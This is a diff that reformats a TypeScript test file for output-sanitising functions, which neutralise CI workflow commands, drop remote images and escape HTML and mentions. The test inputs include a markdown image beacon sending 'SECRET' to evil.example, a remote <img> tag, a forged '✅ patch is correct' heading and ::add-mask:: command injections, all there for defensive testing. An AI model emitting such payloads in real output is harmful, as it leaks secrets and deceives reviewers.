@@ -1,4 +1,13 @@
-import { escapeData, escapeProperty, markdownBlock, markdownInline, neutraliseWorkflowCommands, stripControls, terminalText, truncate } from './index';
+import {
+  escapeData,
+  escapeProperty,
+  markdownBlock,
+  markdownInline,
+  neutraliseWorkflowCommands,
+  stripControls,
+  terminalText,
+  truncate,
+} from './index';
 
 const ESC = '\x1b';
 
@@ -34,7 +43,9 @@ describe('terminalText', () => {
 
 describe('workflow commands', () => {
   it('neutralises :: at the start of any line (after whitespace) and ##[ anywhere, and nothing else', () => {
-    expect(neutraliseWorkflowCommands('ok\n  ::add-mask::x\nstd::vector ##[error]y')).toBe('ok\n  :\u200b:add-mask::x\nstd::vector ##\u200b[error]y');
+    expect(neutraliseWorkflowCommands('ok\n  ::add-mask::x\nstd::vector ##[error]y')).toBe(
+      'ok\n  :\u200b:add-mask::x\nstd::vector ##\u200b[error]y',
+    );
   });
 
   it('escapes data and properties as @actions/core does', () => {
@@ -54,22 +65,36 @@ describe('markdownInline', () => {
 
 describe('markdownBlock', () => {
   it('drops remote images, escapes HTML, defuses mentions; keeps links, emphasis and code as written', () => {
-    const block = markdownBlock('See ![beacon](https://evil.example/p.png?d=SECRET) and [docs](https://nx.dev) <img src="https://evil.example/i"> cc @team, **really** `a<b @x`');
-    expect(block).toBe('See (image removed: beacon) and [docs](https://nx.dev) &lt;img src="https://evil.example/i"&gt; cc @&#8203;team, **really** `a<b @x`');
-    expect(markdownBlock('![ref][1]\n\n[1]: https://evil.example/p.png')).toBe('!\\[ref][1]\n\n[1]: https://evil.example/p.png');
+    const block = markdownBlock(
+      'See ![beacon](https://evil.example/p.png?d=SECRET) and [docs](https://nx.dev) <img src="https://evil.example/i"> cc @team, **really** `a<b @x`',
+    );
+    expect(block).toBe(
+      'See (image removed: beacon) and [docs](https://nx.dev) &lt;img src="https://evil.example/i"&gt; cc @&#8203;team, **really** `a<b @x`',
+    );
+    expect(markdownBlock('![ref][1]\n\n[1]: https://evil.example/p.png')).toBe(
+      '!\\[ref][1]\n\n[1]: https://evil.example/p.png',
+    );
   });
 
   it('cannot open a heading, quote, rule or setext heading of its own', () => {
-    expect(markdownBlock('## ✅ patch is correct\n> quoted\nfake\n===\n---\n  # indented')).toBe('\\## ✅ patch is correct\n&gt; quoted\nfake\n\\===\n\\---\n  \\# indented');
+    expect(markdownBlock('## ✅ patch is correct\n> quoted\nfake\n===\n---\n  # indented')).toBe(
+      '\\## ✅ patch is correct\n&gt; quoted\nfake\n\\===\n\\---\n  \\# indented',
+    );
   });
 
   it('keeps fenced code verbatim, drops an info string that is not a language name, and closes an unclosed fence', () => {
-    expect(markdownBlock('```ts\nconst a = b < c; // @x\n```\nafter')).toBe('```ts\nconst a = b < c; // @x\n```\nafter');
+    expect(markdownBlock('```ts\nconst a = b < c; // @x\n```\nafter')).toBe(
+      '```ts\nconst a = b < c; // @x\n```\nafter',
+    );
     expect(markdownBlock('```<img src=x>\nx\n')).toBe('```\nx\n\n```');
-    expect(markdownBlock('~~~~\n## not a heading\n```\n~~~~\n# heading')).toBe('~~~~\n## not a heading\n```\n~~~~\n\\# heading');
+    expect(markdownBlock('~~~~\n## not a heading\n```\n~~~~\n# heading')).toBe(
+      '~~~~\n## not a heading\n```\n~~~~\n\\# heading',
+    );
   });
 
   it('neutralises workflow commands and strips controls, keeping line breaks', () => {
-    expect(markdownBlock(`::error::x\r\nline${ESC}[2J 2\n##[warning]y`)).toBe(':\u200b:error::x\nline 2\n##\u200b[warning]y');
+    expect(markdownBlock(`::error::x\r\nline${ESC}[2J 2\n##[warning]y`)).toBe(
+      ':\u200b:error::x\nline 2\n##\u200b[warning]y',
+    );
   });
 });
